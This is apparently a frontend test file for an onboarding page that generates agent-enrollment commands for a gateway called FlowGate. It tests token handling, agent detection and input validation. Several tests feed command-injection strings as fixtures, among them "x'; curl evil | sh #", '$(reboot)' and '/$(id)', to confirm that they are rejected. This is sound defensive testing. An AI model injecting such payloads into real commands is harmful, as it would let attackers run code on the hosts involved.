import { screen, waitFor } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { HttpResponse, http } from 'msw'
import { beforeEach, expect, it } from 'vitest'
import { isAddress, isProgram } from '../components/commands'
import { visit } from '../testing/render'
import { fleet, makeAgent, server } from '../testing/server'
import { openStreams, streamOf } from '../testing/streams'

const make = async () => userEvent.click(await screen.findByRole('button', { name: /Make the commands/ }))

beforeEach(() => {
  server.use(
    http.post('*/api/v1/enrollment-tokens', () =>
      HttpResponse.json({ token_id: 'mine', name: 'onboarding', token: 'fge_fresh', uses: 0 }, { status: 201 }),
    ),
    http.get('*/api/v1/gateways', () => HttpResponse.json({ items: fleet, next_cursor: null, total: 3 })),
  )
})

it('makes commands with a fresh token and waits for the agent', async () => {
  visit('/onboarding')
  await make()
  expect(await screen.findByText(/Bearer fge_fresh/)).toHaveTextContent('wss://flowgate.test/v1/opamp')
  expect(screen.getByText(/Waiting for its first connection/)).toBeInTheDocument()
})

it('takes the agent that came with its token for the new one, and no other', async () => {
  openStreams()
  visit('/onboarding')
  await make()
  const [other, mine] = [makeAgent(7, { enrollment_token_id: 'another' }), makeAgent(8, { enrollment_token_id: 'mine' })]
  const events = await streamOf('/api/v1/events')
  server.use(http.get('*/api/v1/gateways', () => HttpResponse.json({ items: [other], next_cursor: null, total: 4 })))
  events.send('agent.registered', { event: 'agent.registered', instance_id: other.instance_id, enrollment_token_id: 'another' })
  await new Promise((resolve) => setTimeout(resolve, 600))
  expect(screen.getByText(/Waiting for its first connection/)).toBeInTheDocument()
  server.use(http.get('*/api/v1/gateways', () => HttpResponse.json({ items: [other, mine], next_cursor: null, total: 5 })))
  events.send('agent.registered', { event: 'agent.registered', instance_id: mine.instance_id, enrollment_token_id: 'mine' })
  expect(await screen.findByText('otelcol@edge-8 has connected')).toBeInTheDocument()
  expect(screen.getByRole('link', { name: 'Look at it' })).toHaveAttribute('href', `/agents/${mine.instance_id}`)
})

it('puts nothing of a link into commands but the id of an agent that FlowGate knows', async () => {
  visit(`/onboarding?move=${encodeURIComponent("x'; curl evil | sh #")}`)
  expect(await screen.findByText('The agent that moves is not known')).toBeInTheDocument()
  await waitFor(() => expect(screen.getByLabelText(/FlowGate's address/)).toHaveValue('wss://flowgate.test/v1/opamp'))
  expect(screen.getByRole('button', { name: /Make the commands/ })).toBeDisabled()
})

it('moves an agent by the instance id that FlowGate has, whichever id the link names', async () => {
  visit(`/onboarding?move=${fleet[1]!.gateway_id}`)
  await make()
  expect(await screen.findByText(/docker run/)).toHaveTextContent(`FLOWGATE_INSTANCE_UID=${fleet[1]!.instance_id} `)
})

it('makes no commands for what is no address', async () => {
  visit('/onboarding')
  const address = await screen.findByLabelText(/FlowGate's address/)
  await waitFor(() => expect(address).toHaveValue('wss://flowgate.test/v1/opamp'))
  await userEvent.type(address, '$(reboot)')
  expect(screen.getByRole('button', { name: /Make the commands/ })).toBeDisabled()
  const good = ['ws://127.0.0.1:4320/v1/opamp', 'wss://[::1]:4320/', 'wss://flowgate.example.com']
  const bad = ['http://a', 'ws://', 'ws://a b', 'ws://a/;ls', 'ws://a/`ls`', 'ws://a\nls', "ws://a/'", 'ws://a/"']
  expect([...good, ...bad].filter(isAddress)).toEqual(good)
})

it("makes the commands for the host's own collector, and none for what is no path", async () => {
  visit('/onboarding')
  const program = await screen.findByLabelText("The collector's program there")
  expect(program).toHaveValue('/usr/bin/otelcol-contrib')
  await userEvent.clear(program)
  await userEvent.type(program, 'otelcol')
  expect(screen.getByRole('button', { name: /Make the commands/ })).toBeDisabled()
  await userEvent.clear(program)
  await userEvent.type(program, '/opt/otel/otelcol')
  await make()
  expect(await screen.findByText(/Bearer fge_fresh/)).toHaveTextContent('executable: /opt/otel/otelcol validate_config')
  const good = ['/usr/bin/otelcol-contrib', '/opt/otel_1.0/bin/otelcol', '/a']
  const bad = ['', 'otelcol', '/', '/a/', '/a b', '/a\nEOF', '/a: b', "/a'", '/$(id)']
  expect([...good, ...bad].filter(isProgram)).toEqual(good)
})
